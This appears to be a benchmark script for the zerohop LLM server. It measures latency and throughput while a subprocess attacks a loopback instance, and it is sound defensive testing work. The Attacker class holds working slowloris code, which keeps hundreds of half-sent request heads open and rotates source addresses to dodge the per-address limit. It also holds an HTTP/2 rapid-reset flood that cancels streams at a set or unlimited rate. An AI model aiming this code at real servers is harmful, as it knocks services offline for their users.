"""A normal client under attack: slowloris connections and an HTTP/2 rapid-reset client.

One `zerohop serve` (the default model unless --model-dir names another; engine threads
--threads, 1; every protection flag at its default: 4,096 connections, 256 per address, a 20 s
request-head deadline, GOAWAY after 200 client resets in 10 s on an HTTP/2 connection) is
driven by `zerohop bench`'s load client (OpenAI /v1/completions, streaming, prompts of English
text in the model's own tokens), undisturbed and then while an attack runs:
  ttft        concurrency 1, --ttft-requests (20) x 128 in -> --ttft-output-tokens (8): TTFT p50;
  throughput  --concurrency (32) streams, --num-requests (128) x 128 in -> 64 out: output tok/s.
The attack is this program in a subprocess of its own (`abuse.py --attack-only --url URL`, one
asyncio loop), so that its CPU is not the load client's:
  slowloris   --slow-connections (500) HTTP/1.1 connections, each sending a request head one
              header line every --slow-interval (5 s) and never finishing it. The server answers
              408 and closes at its head deadline; the attacker reconnects at once, as slowloris
              does, to keep them all open. The connections come from --attack-addresses
              (127.0.0.2-127.0.0.9, bound as source addresses) so that the per-address cap (256)
              is not what stops them; connections the server refuses (closed before any answer)
              are retried after --retry-delay;
  rapid reset --h2-connections (1) h2c connections that open a stream (HEADERS, end of stream)
              and cancel it (RST_STREAM CANCEL) at --reset-rate (1,000/s in all; 0: as fast as
              the attacker can). On GOAWAY the attacker reconnects and goes on.
The attack starts --attack-lead (15 s) before the measurement, so that the first round of
408s and reconnects (at the 20 s head deadline) falls inside it.

Each of --repeats (2) rounds measures undisturbed and attacked (the order flips every round),
with prompts of their own (no prefix-cache hits across runs). Each figure counts at its best
round per mode (lowest TTFT, highest throughput: a shared machine only ever slows a run down);
the median of the per-round attacked/undisturbed ratios is printed too. Also reported: what
the attacker saw (slow connections held on average, reconnects, 408s, refusals, resets sent,
GOAWAYs), the server's guard counters in GET /metrics before and after, and the CPU of the
API process, the engine process and the attacker during each run.

Target: attacked / undisturbed within 10%: TTFT p50 <= 1.10x, output throughput >= 0.90x.

    .venv/bin/python benchmarks/abuse.py [--repeats 2] [--out bench-results/abuse.json]
"""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import json
import os
import resource
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections import Counter
from collections.abc import Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from _common import ROOT, cpu_count, model_path, print_table, write_json
from serve import SERVED_MODEL_NAME, CpuMeter, Server, free_port, load_config, prompt_maker

from zerohop.bench.load import run_benchmark
from zerohop.bench.load_types import BenchConfig

MODES = ("undisturbed", "attacked")
TTFT_TARGET = 1.10  # attacked / undisturbed, TTFT p50 at concurrency 1
THROUGHPUT_TARGET = 0.90  # attacked / undisturbed, output tok/s at --concurrency
REFUSED_WITHIN_S = 1.0  # a slow connection closed this soon without an answer was refused
GUARD_PREFIXES = ("zerohop_connections_", "zerohop_http2_")


def attacker_log(args: argparse.Namespace) -> Path:
    return args.out.parent / "abuse-attacker.log"


def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument(
        "--model-dir",
        default=None,
        help="a .gguf file or a Hugging Face folder, or `standard` or `tiny` "
        "(default: zerohop's default model, SmolLM2-135M-Instruct)",
    )
    p.add_argument("--threads", type=int, default=1, help="engine torch threads")
    p.add_argument("--kv-cache-memory", type=float, default=1.0, help="GiB")
    p.add_argument("--max-num-batched-tokens", type=int, default=2048)
    p.add_argument("--concurrency", type=int, default=32, help="streams of the throughput run")
    p.add_argument("--num-requests", type=int, default=128, help="requests of the throughput run")
    p.add_argument("--input-tokens", type=int, default=128)
    p.add_argument("--output-tokens", type=int, default=64)
    p.add_argument("--ttft-requests", type=int, default=20, help="requests at concurrency 1")
    p.add_argument("--ttft-output-tokens", type=int, default=8)
    p.add_argument("--repeats", type=int, default=2, help="rounds of undisturbed/attacked")
    p.add_argument("--out", type=Path, default=ROOT / "bench-results" / "abuse.json")
    a = p.add_argument_group("the attack")
    a.add_argument("--slow-connections", type=int, default=500, help="slowloris connections")
    a.add_argument("--slow-interval", type=float, default=5.0, help="seconds between header lines")
    a.add_argument("--ramp-seconds", type=float, default=5.0, help="to open them all at first")
    a.add_argument("--reset-rate", type=float, default=1000.0, help="resets/s in all (0: max)")
    a.add_argument("--h2-connections", type=int, default=1, help="rapid-reset connections")
    a.add_argument(
        "--attack-addresses",
        default="127.0.0.2-127.0.0.9",
        help="source addresses of the attack: FIRST-LAST or comma-separated",
    )
    a.add_argument("--retry-delay", type=float, default=1.0, help="after a refused connection")
    a.add_argument(
        "--attack-lead", type=float, default=15.0, help="seconds the attack runs before measuring"
    )
    a.add_argument("--attack-only", action="store_true", help="be the attacker (internal)")
    a.add_argument("--url", help="the server to attack (with --attack-only)")
    return p.parse_args(argv)


def addresses(spec: str) -> list[str]:
    """`127.0.0.2-127.0.0.9` or `127.0.0.2,127.0.0.3` as a list of addresses."""
    if "-" in spec:
        first, last = (ipaddress.ip_address(a.strip()) for a in spec.split("-", 1))
        return [str(ipaddress.ip_address(i)) for i in range(int(first), int(last) + 1)]
    return [a.strip() for a in spec.split(",") if a.strip()]


# -- the attacker (`--attack-only`, a process of its own) --------------------------------------


@dataclass(slots=True)
class AttackStats:
    slow_opened: int = 0  # slowloris connections opened, the first ones included
    slow_408: int = 0  # answered 408 (head deadline) and closed
    slow_refused: int = 0  # closed without an answer within REFUSED_WITHIN_S of connecting
    slow_closed_silently: int = 0  # closed without an answer later than that
    slow_other_answer: int = 0  # answered anything but 408
    connect_errors: int = 0  # connect() failed (both kinds of connection)
    seconds_to_408: list[float] = field(default_factory=list)
    held: int = 0  # slowloris connections open now
    held_samples: list[int] = field(default_factory=list)  # every 0.25 s after `ready`
    h2_connections: int = 0
    h2_resets: int = 0  # streams opened and reset
    h2_goaways: int = 0
    h2_goaway_codes: Counter = field(default_factory=Counter)
    h2_closed_without_goaway: int = 0
    h2_errors: Counter = field(default_factory=Counter)

    def report(self, initial: int, seconds: float, cpu_s: float) -> dict:
        held = self.held_samples or [0]
        out = asdict(self)
        del out["held_samples"], out["seconds_to_408"], out["held"]
        return out | {
            "slow_reconnects": max(0, self.slow_opened - initial),
            "slow_held_mean": statistics.fmean(held),
            "slow_held_min": min(held),
            "seconds_to_408_p50": (
                statistics.median(self.seconds_to_408) if self.seconds_to_408 else None
            ),
            "h2_goaway_codes": {str(k): v for k, v in self.h2_goaway_codes.items()},
            "h2_errors": dict(self.h2_errors),
            "seconds_since_ready": seconds,
            "cpu_s_since_ready": cpu_s,
        }


class Attacker:
    """Slowloris connections and rapid-reset HTTP/2 connections against one server."""

    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        host_port = args.url.split("://", 1)[-1].rstrip("/")
        self.host, _, port = host_port.rpartition(":")
        self.port = int(port)
        self.authority = host_port
        self.sources = addresses(args.attack_addresses)
        self.stats = AttackStats()
        self.stop = asyncio.Event()

    async def run(self) -> dict:
        loop = asyncio.get_running_loop()
        threading.Thread(target=self._wait_for_stop, args=(loop,), daemon=True).start()
        a, started = self.args, time.perf_counter()
        tasks = [asyncio.create_task(self.slow(i)) for i in range(a.slow_connections)]
        rate = a.reset_rate / max(1, a.h2_connections)
        tasks += [asyncio.create_task(self.rapid_reset(i, rate)) for i in range(a.h2_connections)]
        await self._ramp()
        ready_at, cpu_at = time.perf_counter(), _cpu_s()
        print("ready", self.stats.held, flush=True)
        sampler = asyncio.create_task(self._sample())
        await self.stop.wait()
        seconds, cpu = time.perf_counter() - ready_at, _cpu_s() - cpu_at
        for task in [*tasks, sampler]:
            task.cancel()
        await asyncio.gather(*tasks, sampler, return_exceptions=True)
        return self.stats.report(a.slow_connections, seconds, cpu) | {
            "seconds": time.perf_counter() - started
        }

    def _wait_for_stop(self, loop: asyncio.AbstractEventLoop) -> None:
        sys.stdin.readline()  # "stop", or EOF when the parent goes away
        loop.call_soon_threadsafe(self.stop.set)

    async def _ramp(self) -> None:
        """Until the slow connections are (nearly) all open, or 10 s past the ramp."""
        a = self.args
        await asyncio.sleep(a.ramp_seconds)
        deadline = time.monotonic() + 10.0
        while self.stats.held < 0.95 * a.slow_connections and time.monotonic() < deadline:
            await asyncio.sleep(0.1)

    async def _sample(self) -> None:
        while True:
            self.stats.held_samples.append(self.stats.held)
            await asyncio.sleep(0.25)

    async def _connect(self, i: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
        source = self.sources[i % len(self.sources)]
        try:
            return await asyncio.open_connection(self.host, self.port, local_addr=(source, 0))
        except OSError:
            self.stats.connect_errors += 1
            await asyncio.sleep(self.args.retry_delay)
            return None

    # slowloris

    async def slow(self, i: int) -> None:
        a = self.args
        await asyncio.sleep(a.ramp_seconds * i / max(1, a.slow_connections))
        while True:
            if (conn := await self._connect(i)) is None:
                continue
            reader, writer = conn
            self.stats.slow_opened += 1
            self.stats.held += 1
            started = time.monotonic()
            try:
                answer = await self._slow_head(reader, writer)
            finally:
                self.stats.held -= 1
                writer.close()
            if self._count_slow(answer, time.monotonic() - started):
                await asyncio.sleep(a.retry_delay)

    async def _slow_head(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
        """Send a request head a line at a time, never ending it; what the server answers
        (b"" if it closes without an answer)."""
        writer.write(
            b"POST /v1/completions HTTP/1.1\r\nhost: %s\r\ncontent-type: application/json\r\n"
            % self.authority.encode()
        )
        line = 0
        while True:
            try:
                return await asyncio.wait_for(reader.read(256), self.args.slow_interval)
            except TimeoutError:
                line += 1
                writer.write(b"x-slow-%d: %d\r\n" % (line, line))
            except OSError:  # reset: an aborted (refused) connection
                return b""

    def _count_slow(self, answer: bytes, seconds: float) -> bool:
        """Count how a slow connection ended; True if it was refused."""
        s = self.stats
        if answer.startswith(b"HTTP/1.1 408"):
            s.slow_408 += 1
            s.seconds_to_408.append(seconds)
        elif answer:
            s.slow_other_answer += 1
        elif seconds < REFUSED_WITHIN_S:
            s.slow_refused += 1
            return True
        else:
            s.slow_closed_silently += 1
        return False

    # HTTP/2 rapid reset

    async def rapid_reset(self, i: int, rate: float) -> None:
        while True:
            if (conn := await self._connect(i)) is None:
                continue
            reader, writer = conn
            self.stats.h2_connections += 1
            try:
                await self._reset_loop(reader, writer, rate)
            except OSError as exc:
                self.stats.h2_errors[type(exc).__name__] += 1
            finally:
                writer.close()

    async def _reset_loop(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, rate: float
    ) -> None:
        """Open and cancel streams at `rate` per second (0: as fast as the socket takes them)
        until the server says GOAWAY or closes."""
        import h2.config
        import h2.connection
        import h2.errors
        import h2.exceptions

        h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        h2c.initiate_connection()
        writer.write(h2c.data_to_send())
        headers = [
            (":method", "POST"), (":scheme", "http"), (":authority", self.authority),
            (":path", "/v1/completions"), ("content-type", "application/json"),
        ]  # fmt: skip
        reading = asyncio.create_task(self._h2_read(reader, writer, h2c))
        loop = asyncio.get_running_loop()
        started, sent, batch = loop.time(), 0, 50
        try:
            while not reading.done():
                due = int((loop.time() - started) * rate) if rate else sent + batch
                for _ in range(min(due - sent, batch)):
                    stream = h2c.get_next_available_stream_id()
                    h2c.send_headers(stream, headers, end_stream=True)
                    h2c.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
                    self.stats.h2_resets += 1
                writer.write(h2c.data_to_send())
                await writer.drain()
                await asyncio.sleep(0.005 if rate else 0)
        except h2.exceptions.H2Error as exc:
            self.stats.h2_errors[type(exc).__name__] += 1
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)

    async def _h2_read(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, h2c: Any
    ) -> None:
        import h2.events
        import h2.exceptions

        while data := await reader.read(65536):
            try:
                events = h2c.receive_data(data)
            except h2.exceptions.H2Error as exc:
                self.stats.h2_errors[type(exc).__name__] += 1
                return
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated):
                    self.stats.h2_goaways += 1
                    self.stats.h2_goaway_codes[int(event.error_code)] += 1
                    return
            writer.write(h2c.data_to_send())
        self.stats.h2_closed_without_goaway += 1


def _cpu_s() -> float:
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime


def attack_main(args: argparse.Namespace) -> None:
    """The attacker: "ready" on stdout once the slow connections are open; on a line (or EOF)
    on stdin, stop and print its figures as one line of JSON."""
    try:
        import uvloop

        report = uvloop.run(Attacker(args).run())
    except ImportError:
        report = asyncio.run(Attacker(args).run())
    print(json.dumps(report), flush=True)


class Attack:
    """The attacker subprocess, from its start to its figures."""

    def __init__(self, args: argparse.Namespace, url: str, log: Path) -> None:
        cmd = [
            sys.executable, __file__, "--attack-only", "--url", url,
            "--slow-connections", str(args.slow_connections),
            "--slow-interval", str(args.slow_interval),
            "--ramp-seconds", str(args.ramp_seconds),
            "--reset-rate", str(args.reset_rate),
            "--h2-connections", str(args.h2_connections),
            "--attack-addresses", args.attack_addresses,
            "--retry-delay", str(args.retry_delay),
        ]  # fmt: skip
        with log.open("ab") as err:
            self.process = subprocess.Popen(
                cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=err, text=True
            )

    def wait_ready(self) -> int:
        """Slow connections open when the attacker says it is ready."""
        line = self.process.stdout.readline()  # type: ignore[union-attr]
        if not line.startswith("ready"):
            self.process.kill()
            raise RuntimeError(f"the attacker did not start: {line!r}")
        return int(line.split()[1])

    def stop(self) -> dict:
        out, _ = self.process.communicate("stop\n", timeout=60)
        return json.loads(out.strip().splitlines()[-1])


# -- the server and its metrics -------------------------------------------------------------------


class AbuseServer(Server):
    """`zerohop serve` with serve.py's engine options and every protection flag at its default;
    the gateway on (for GET /metrics) with a store of its own, empty: open on loopback."""

    def __init__(self, args: argparse.Namespace, model: Path, state: Path, log: Path) -> None:
        self.port = free_port()
        self.log = log
        cmd = [
            sys.executable, "-m", "zerohop", "serve", str(model),
            "--port", str(self.port), "--grpc-port", "0",
            "--served-model-name", SERVED_MODEL_NAME, "--num-threads", str(args.threads),
            "--max-num-seqs", "64", "--kv-cache-memory", str(args.kv_cache_memory),
            "--max-num-batched-tokens", str(args.max_num_batched_tokens),
            "--keys-db", str(state / "keys.db"), "--audit-dir", str(state / "audit"),
        ]  # fmt: skip
        log.parent.mkdir(parents=True, exist_ok=True)
        with log.open("wb") as out:
            self.process = subprocess.Popen(cmd, stdout=out, stderr=subprocess.STDOUT, cwd=ROOT)


def guard_counters(url: str) -> dict[str, float]:
    """The connection guard's series in GET /metrics (this scrape's own connection counts in
    `zerohop_connections_open`)."""
    with urllib.request.urlopen(url + "/metrics", timeout=10.0) as r:
        text = r.read().decode()
    out = {}
    for line in text.splitlines():
        if line.startswith(GUARD_PREFIXES):
            name, _, value = line.rpartition(" ")
            out[name] = float(value)
    return out


def counter_delta(before: dict[str, float], after: dict[str, float]) -> dict[str, float]:
    return {k: v - before.get(k, 0.0) for k, v in after.items() if k != "zerohop_connections_open"}


def wait_quiet(url: str, timeout: float = 60.0) -> float:
    """Until the server holds no connection but the scrape's own; the open count then."""
    deadline = time.monotonic() + timeout
    while (open_now := guard_counters(url)["zerohop_connections_open"]) > 1:
        if time.monotonic() > deadline:
            break
        time.sleep(0.5)
    return open_now


# -- the measured client --------------------------------------------------------------------------


def workloads(args: argparse.Namespace, url: str, seed: int) -> dict[str, BenchConfig]:
    """One run's workloads: the TTFT run keeps logprobs=0 so every token has its own event."""
    ttft = load_config(
        args, url, concurrency=1, requests=args.ttft_requests,
        output_tokens=args.ttft_output_tokens, seed=1000 + seed, logprobs=0,
    )  # fmt: skip
    throughput = load_config(
        args, url, concurrency=args.concurrency, requests=args.num_requests,
        output_tokens=args.output_tokens, seed=seed,
    )  # fmt: skip
    return {"ttft": ttft, "throughput": throughput}


def measure_run(cfg: BenchConfig, server: Server) -> dict:
    """One load run and the CPU the server's processes used over it (% of one core)."""
    cpu = CpuMeter(server.process.pid)
    s = run_benchmark(cfg)["summary"]
    used = cpu.stop()
    return {
        "output_throughput": s["output_throughput"],
        "ttft_p50_ms": (s["ttft_ms"] or {}).get("p50"),
        "ttft_p90_ms": (s["ttft_ms"] or {}).get("p90"),
        "tpot_p50_ms": (s["tpot_ms"] or {}).get("p50"),
        "completed": s["completed"],
        "failed": s["failed"],
        "errors": s["errors"],
        "checks": s["checks"],
        "wall_s": used["wall_s"],
        "api_cpu_pct": 100 * used["api_s"] / used["wall_s"],
        "engine_cpu_pct": 100 * used.get("engine_s", 0.0) / used["wall_s"],
    }


def measure_mode(args: argparse.Namespace, server: Server, mode: str, seed: int) -> dict:
    runs = workloads(args, server.url, seed)
    if mode == "undisturbed":
        return {"open_before": wait_quiet(server.url)} | {
            name: measure_run(cfg, server) for name, cfg in runs.items()
        }
    wait_quiet(server.url)
    before = guard_counters(server.url)
    attack = Attack(args, server.url, attacker_log(args))
    try:
        held_at_ready = attack.wait_ready()
        lead = CpuMeter(server.process.pid)
        time.sleep(max(0.0, args.attack_lead - args.ramp_seconds))
        lead_cpu = lead.stop()
        open_at_start = guard_counters(server.url)["zerohop_connections_open"]
        out = {name: measure_run(cfg, server) for name, cfg in runs.items()}
    finally:
        stats = attack.stop()
    after = guard_counters(server.url)
    return out | {
        "attack": stats,
        "slow_held_at_ready": held_at_ready,
        "server_open_at_measure_start": open_at_start,
        "api_cpu_pct_attack_alone": 100 * lead_cpu["api_s"] / lead_cpu["wall_s"],
        "attack_alone_s": lead_cpu["wall_s"],
        "attacker_cpu_pct": 100 * stats["cpu_s_since_ready"] / stats["seconds_since_ready"],
        "guard_delta": counter_delta(before, after),
    }


def print_mode(rep: int, mode: str, run: dict) -> None:
    t, p = run["ttft"], run["throughput"]
    failed = t["failed"] + p["failed"]
    print(
        f"  round {rep + 1} {mode:<11}: TTFT p50 {t['ttft_p50_ms']:7.2f} ms, "
        f"{p['output_throughput']:7.1f} out tok/s, API CPU {p['api_cpu_pct']:.0f}% "
        f"(c=1 {t['api_cpu_pct']:.0f}%)" + (f", {failed} FAILED" if failed else ""),
        flush=True,
    )
    if a := run.get("attack"):
        print(
            f"    attack: {a['slow_held_mean']:.0f} slow connections held on average "
            f"(min {a['slow_held_min']}), {a['slow_reconnects']} reconnects, {a['slow_408']} "
            f"408s, {a['slow_refused']} refused, {a['h2_resets']} resets sent "
            f"({a['h2_resets'] / a['seconds']:.0f}/s), "
            f"{a['h2_goaways']} GOAWAYs; attacker CPU {run['attacker_cpu_pct']:.0f}%",
            flush=True,
        )


def warm_up(args: argparse.Namespace, server: Server) -> None:
    cfg = load_config(
        args, server.url, concurrency=args.concurrency, requests=args.concurrency,
        output_tokens=8, seed=999,
    )  # fmt: skip
    if run_benchmark(cfg)["summary"]["failed"]:
        raise RuntimeError(f"warm-up requests failed; log: {server.log}")


def measure(args: argparse.Namespace, model: Path) -> dict:
    with tempfile.TemporaryDirectory(prefix="zerohop-abuse-") as state:
        server = AbuseServer(args, model, Path(state), args.out.parent / "abuse-server.log")
        attacker_log(args).write_bytes(b"")  # each attack appends its stderr
        rounds: list[dict[str, dict]] = []
        try:
            server.wait_ready()
            warm_up(args, server)
            metrics_before = guard_counters(server.url)
            for rep in range(args.repeats):
                order = MODES if rep % 2 == 0 else MODES[::-1]
                runs: dict[str, dict] = {}
                for mode in order:
                    runs[mode] = measure_mode(args, server, mode, seed=10 * rep + MODES.index(mode))
                    print_mode(rep, mode, runs[mode])
                rounds.append(runs)
            metrics_after = guard_counters(server.url)
        finally:
            server.stop()
    return {
        "rounds": rounds,
        "summary": summarize(rounds),
        "metrics_before": metrics_before,
        "metrics_after": metrics_after,
        "server_log": str(server.log),
    }


# -- report ---------------------------------------------------------------------------------------

# Figures of the measured client: (run, field, which way is better).
FIGURES = {
    "ttft_p50_ms": ("ttft", "ttft_p50_ms", min),
    "output_tok_s": ("throughput", "output_throughput", max),
    "api_cpu_pct_c32": ("throughput", "api_cpu_pct", min),
    "api_cpu_pct_c1": ("ttft", "api_cpu_pct", min),
    "engine_cpu_pct_c32": ("throughput", "engine_cpu_pct", min),
}
ATTACK_FIGURES = (
    "slow_held_mean", "slow_held_min", "slow_opened", "slow_reconnects", "slow_408",
    "seconds_to_408_p50", "slow_refused", "slow_closed_silently", "slow_other_answer",
    "connect_errors", "h2_connections", "h2_resets", "h2_goaways", "h2_closed_without_goaway",
    "seconds",
)  # fmt: skip


def summarize(rounds: list[dict]) -> dict:
    """Each figure at its best round per mode and their ratio; the median of the per-round
    ratios; the attack's figures summed (means and minimums: averaged) over rounds."""
    out: dict = {}
    for figure, (run, key, better) in FIGURES.items():
        values = {mode: [r[mode][run][key] for r in rounds] for mode in MODES}
        calm, hit = better(values["undisturbed"]), better(values["attacked"])
        pairs = zip(values["undisturbed"], values["attacked"], strict=True)
        ratios = [b / a for a, b in pairs if a]
        out[figure] = {
            "undisturbed": calm,
            "attacked": hit,
            "ratio": hit / calm if calm else None,
            "median_paired_ratio": statistics.median(ratios) if ratios else None,
            "per_round": values,
        }
    out["ttft_within_target"] = out["ttft_p50_ms"]["ratio"] <= TTFT_TARGET
    out["throughput_within_target"] = out["output_tok_s"]["ratio"] >= THROUGHPUT_TARGET
    attacks = [r["attacked"] for r in rounds]
    out["attack"] = {k: _combine(k, [a["attack"][k] for a in attacks]) for k in ATTACK_FIGURES}
    out["attack"]["h2_resets_per_s"] = out["attack"]["h2_resets"] / out["attack"]["seconds"]
    out["attack"]["attacker_cpu_pct"] = statistics.fmean(a["attacker_cpu_pct"] for a in attacks)
    out["attack"]["api_cpu_pct_attack_alone"] = statistics.fmean(
        a["api_cpu_pct_attack_alone"] for a in attacks
    )
    out["attack"]["server_open_at_measure_start"] = statistics.fmean(
        a["server_open_at_measure_start"] for a in attacks
    )
    out["guard_delta_attacked"] = {
        k: sum(a["guard_delta"].get(k, 0.0) for a in attacks) for k in attacks[0]["guard_delta"]
    }
    out["failed"] = sum(
        r[m][k]["failed"] for r in rounds for m in MODES for k in ("ttft", "throughput")
    )
    return out


def _combine(key: str, values: list) -> float | None:
    values = [v for v in values if v is not None]
    if not values:
        return None
    return statistics.fmean(values) if key.endswith(("_mean", "_min", "_p50")) else sum(values)


def print_summary(report: dict) -> None:
    s = report["summary"]
    print("\n== the normal client, undisturbed vs attacked (best round of each)")
    rows = [
        [
            name, f["undisturbed"], f["attacked"], f["ratio"], f["median_paired_ratio"],
            {"ttft_p50_ms": f"<= {TTFT_TARGET}", "output_tok_s": f">= {THROUGHPUT_TARGET}"}.get(
                name, ""
            ),
        ]
        for name, f in ((k, s[k]) for k in FIGURES)
    ]  # fmt: skip
    print_table(
        ["figure", "undisturbed", "attacked", "attacked/undisturbed", "median of rounds", "target"],
        rows,
    )
    verdict = (
        "within" if s["ttft_within_target"] and s["throughput_within_target"] else "NOT within"
    )
    print(f"{verdict} 10%; {s['failed']} requests failed")
    print("\n== the attack (summed over the attacked runs; held, p50 and CPU: averaged)")
    print_table(["figure", "value"], [[k, v] for k, v in s["attack"].items()])
    print("\n== guard counters in GET /metrics")
    before, after = report["metrics_before"], report["metrics_after"]
    delta = s["guard_delta_attacked"]
    print_table(
        ["series", "before", "after", "during the attacks"],
        [[k, before.get(k), v, delta.get(k)] for k, v in after.items()],
    )


def main(argv: Sequence[str] | None = None) -> dict | None:
    args = parse_args(argv)
    if args.attack_only:
        attack_main(args)
        return None
    model = model_path(args.model_dir)
    args.prompt_source, _ = prompt_maker(model)
    report = measure(args, model)
    report |= {
        "model": str(model),
        "cpus": cpu_count(),
        "load_average": os.getloadavg(),
        "options": {k: v for k, v in vars(args).items() if k != "prompt_source"}
        | {"out": str(args.out)},
        "best_of": "each figure at its best round per mode; median_paired_ratio: per round",
        "targets": {
            "ttft_ratio_at_most": TTFT_TARGET,
            "throughput_ratio_at_least": THROUGHPUT_TARGET,
        },
    }
    print_summary(report)
    write_json(args.out, report)
    print(f"\nwrote {args.out}")
    return report


if __name__ == "__main__":
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
    main()
